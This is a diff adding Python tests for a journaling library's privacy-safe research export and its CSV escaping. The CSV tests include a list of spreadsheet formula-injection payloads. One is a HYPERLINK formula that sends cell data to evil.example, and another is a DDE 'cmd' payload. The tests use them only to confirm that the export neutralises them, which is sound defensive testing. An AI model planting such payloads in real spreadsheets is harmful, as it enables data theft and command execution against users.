@@ -1,0 +1,159 @@
+"""Privacy by construction in the research export, and spreadsheet-safe CSV.
+
+The research export lets out only what is on its allow-list: a unique marker is
+planted in every string field of every record type (participant ids, record
+ids, trigger references, free text, emotion names, a custom exercise id that
+starts like a catalog family, a custom instrument's id) and every byte of every
+file written from the export is searched for it."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+
+import pytest
+
+import calmkit
+from calmkit import exports
+
+KEY = bytes(range(32))
+M = "mk7q"  # the marker's prefix: no output may contain it
+
+
+def marked_journal() -> calmkit.Journal:
+    """Every string field of every record type holds a unique marker."""
+    inst = f"{M}-instrument-sam"
+    if inst not in calmkit.instrument_ids():
+        calmkit.register_instrument({"id": inst, "name": f"{M} name", "items": [f"{M} item"],
+                                     "scale_min": 0, "scale_max": 3})
+    p = f"{M}-participant-alex@example.org"
+    t = "2026-03-02T21:14:00+01:00"
+    lines = [
+        {"type": "trigger", "participant": p, "id": f"{M}-trigger-id", "time": t, "category": "delayed_reply",
+         "intensity": 8, "context": f"{M} context", "thoughts": [f"{M} thought"], "sensations": [f"{M} sensation"],
+         "urge": f"{M} urge", "acted_on_urge": True, "acted_after_minutes": 12.5, "response": f"{M} response",
+         "tags": [f"{M}-tag"]},
+        {"type": "reading", "participant": p, "id": f"{M}-reading-id", "time": "2026-03-02T21:20:00+01:00",
+         "intensity": 7, "trigger": f"{M}-trigger-id", "note": f"{M} note"},
+        {"type": "exercise", "participant": p, "id": f"{M}-exercise-id", "time": "2026-03-02T21:30:00+01:00",
+         "exercise": f"breathing.with-{M}-after-the-breakup", "end": "2026-03-02T21:36:00+01:00",
+         "completed": True, "intensity_before": 7, "intensity_after": 4, "trigger": f"{M}-trigger-id",
+         "responses": [f"{M} response"]},
+        {"type": "exercise", "participant": p, "id": f"{M}-exercise-2", "time": "2026-03-02T21:40:00+01:00",
+         "exercise": "breathing.box", "end": "2026-03-02T21:44:00+01:00", "completed": True},
+        {"type": "thought_record", "participant": p, "id": f"{M}-thought-id", "time": "2026-03-02T22:05:00+01:00",
+         "situation": f"{M} situation", "automatic_thought": f"{M} automatic", "belief_before": 85,
+         "emotions": [{"name": f"{M} scared Sam leaves", "before": 80, "after": 40},
+                      {"name": "Anxious", "before": 50}],
+         "distortions": ["mind_reading"], "evidence_for": [f"{M} for"], "evidence_against": [f"{M} against"],
+         "alternatives": [f"{M} alternative"], "friend_advice": f"{M} advice", "balanced_thought": f"{M} balanced",
+         "belief_after": 35, "trigger": f"{M}-trigger-id"},
+        {"type": "assessment", "participant": p, "id": f"{M}-assessment-id", "time": "2026-03-03T09:00:00+01:00",
+         "instrument": "gad-7", "answers": [1, 2, 0, 1, 2, 0, 1], "note": f"{M} assessment note"},
+        {"type": "assessment", "participant": p, "id": f"{M}-assessment-2", "time": "2026-03-04T09:00:00+01:00",
+         "instrument": inst, "answers": [2], "note": f"{M} note 2"},
+    ]
+    return calmkit.parse_journal("".join(json.dumps(x) + "\n" for x in lines))
+
+
+def test_every_string_field_holds_the_marker():
+    # The fixture itself: each record type, each string field (a test of the test).
+    text = calmkit.to_jsonl(marked_journal())
+    for rec in map(json.loads, text.splitlines()[1:]):
+        for name, value in rec.items():
+            if isinstance(value, str) and name not in ("type", "time", "end", "category") and \
+                    value not in ("gad-7", "breathing.box"):
+                assert M in value, (rec["type"], name)
+    assert text.count(M) >= 30
+
+
+@pytest.mark.parametrize("shift", [False, True])
+def test_no_marker_leaves_the_research_export(tmp_path: Path, shift: bool):
+    j = marked_journal()
+    out = tmp_path / "out"
+    out.mkdir()
+    calmkit.write_research_export(j, out / "study.jsonl", KEY, shift_dates=shift)
+    r = calmkit.research_export(j, KEY, shift_dates=shift)
+    calmkit.export_csv(r, out / "csv")
+    calmkit.write_parquet(r, out / "parquet")
+    files = [p for p in out.rglob("*") if p.is_file()]
+    assert len(files) >= 10
+    for p in files:
+        assert M.encode() not in p.read_bytes(), p
+    # Parquet pages may be compressed: look at the values read back too.
+    back = calmkit.read_parquet(out / "parquet")
+    assert M not in calmkit.to_jsonl(back)
+    # What does leave: numbers, vocabularies, catalog ids, pseudonyms.
+    assert [e.exercise for e in r.exercises] == ["custom", "breathing.box"]
+    assert [e.name for e in r.thought_records[0].emotions] == ["other", "anxious"]
+    assert [a.instrument for a in r.assessments] == ["gad-7"]  # the custom instrument's record is dropped
+    assert r.triggers[0].intensity == 8 and r.triggers[0].acted_after_minutes == 12.5
+    assert r.readings[0].trigger == r.triggers[0].id == r.exercises[0].trigger == r.thought_records[0].trigger
+
+
+def test_a_catalog_prefix_is_not_enough():
+    j = calmkit.parse_journal(
+        '{"type":"exercise","id":"e1","time":"2026-03-02T21:30:00+01:00","end":"2026-03-02T21:35:00+01:00",'
+        '"exercise":"grounding.5-4-3-2-1"}\n'
+        '{"type":"exercise","id":"e2","time":"2026-03-02T21:31:00+01:00","end":"2026-03-02T21:35:00+01:00",'
+        '"exercise":"grounding.call-jo"}\n')
+    assert calmkit.find_exercise("grounding.5-4-3-2-1") is not None
+    assert [e.exercise for e in calmkit.research_export(j, KEY).exercises] == ["grounding.5-4-3-2-1", "custom"]
+
+
+def test_a_shift_past_the_year_9999_is_a_clear_error():
+    # Find a participant whose shift is forwards under KEY.
+    name = next(f"p{k}" for k in range(100) if exports.shift_weeks(KEY, f"p{k}") > 0)
+    j = calmkit.parse_journal(json.dumps({"type": "reading", "participant": name, "id": "r1",
+                                          "time": "9999-12-30T12:00:00Z", "intensity": 3}) + "\n")
+    with pytest.raises(ValueError, match="9999-12-30T12:00:00Z moved by the participant's date shift .* weeks"):
+        calmkit.research_export(j, KEY, shift_dates=True)
+    back = next(f"p{k}" for k in range(100) if exports.shift_weeks(KEY, f"p{k}") < 0)
+    j = calmkit.parse_journal(json.dumps({"type": "reading", "participant": back, "id": "r1",
+                                          "time": "1400-01-02T12:00:00Z", "intensity": 3}) + "\n")
+    with pytest.raises(ValueError, match="outside the years 1400-9999"):
+        calmkit.research_export(j, KEY, shift_dates=True)
+
+
+# --- CSV formula injection -------------------------------------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\tleading tab",
+           "\rleading CR", "'already quoted", "''two", "'", "=", "-", "plain", " =space first", "a=b",
+           "=cmd|' /C calc'!A0"]
+
+
+def hostile_journal() -> calmkit.Journal:
+    j = calmkit.Journal()
+    for k, text in enumerate(HOSTILE):
+        j.add(calmkit.Trigger(id=f"{text}#{k}", participant=text, time=f"2026-03-02T21:{k:02d}:00+01:00",
+                              category="conflict", intensity=3, context=text, urge=text, response=text,
+                              thoughts=[text], tags=[text]))
+        j.add(calmkit.Reading(id=f"r{k}", participant=text, time=f"2026-03-02T22:{k:02d}:00+01:00", intensity=2,
+                              note=text, trigger=f"{text}#{k}"))
+    return j
+
+
+def test_hostile_cells_are_neutralised_and_round_trip(tmp_path: Path):
+    j = hostile_journal()
+    calmkit.export_csv(j, tmp_path)
+    assert calmkit.import_csv(tmp_path) == j
+    for name in ("triggers.csv", "readings.csv"):
+        with open(tmp_path / name, encoding="utf-8", newline="") as f:
+            rows = list(csv.reader(f))
+        for row in rows[1:]:
+            for cell in row:
+                # No cell a spreadsheet would run: the first character is never a formula start.
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    text = (tmp_path / "readings.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in text
+    assert "'''two" in text
+    assert ",'@SUM(A1:A9)\n" in text
+
+
+def test_the_rule_is_applied_to_text_cells_only(tmp_path: Path):
+    j = calmkit.Journal([calmkit.Trigger(id="t1", time="2026-03-02T21:14:00-05:00", category="conflict",
+                                         intensity=0, acted_on_urge=True, acted_after_minutes=0.5)])
+    calmkit.export_csv(j, tmp_path)
+    row = (tmp_path / "triggers.csv").read_text(encoding="utf-8").splitlines()[1]
+    assert row == ",t1,2026-03-02T21:14:00-05:00,conflict,0,,,,,true,0.5,,"
